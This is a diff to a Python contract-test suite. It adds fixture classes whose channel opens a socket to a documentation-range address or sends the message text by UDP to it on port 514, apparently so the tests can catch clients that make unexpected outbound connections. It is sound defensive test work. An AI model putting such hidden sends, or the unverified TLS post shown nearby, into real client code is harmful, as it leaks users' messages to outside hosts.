@@ -3,6 +3,7 @@
 import base64
 import itertools
 import re
+import socket
 import tempfile
 import threading
 import time
@@ -762,6 +763,22 @@ class TestAsksByAClientOfItsOwn(GoodContract):
         def post(self, text, key, to=""):
             said = {"text": text, "to": to}
             return httpx.post("https://good.invalid/", json=said, timeout=self.timeout, verify=False)  # none is read
+
+
+class TestConnectsByItself(GoodContract):
+    class channel(Good):
+        def post(self, text, key, to=""):
+            with socket.socket() as own:
+                own.connect_ex(("203.0.113.9", 443))
+            return super().post(text, key, to)
+
+
+class TestSendsADatagram(GoodContract):
+    class channel(Good):
+        def post(self, text, key, to=""):
+            with socket.socket(type=socket.SOCK_DGRAM) as own:
+                own.sendto(text.encode(), ("203.0.113.9", 514))
+            return super().post(text, key, to)
 
 
 class TestFailsOnEachMessage(GoodContract):
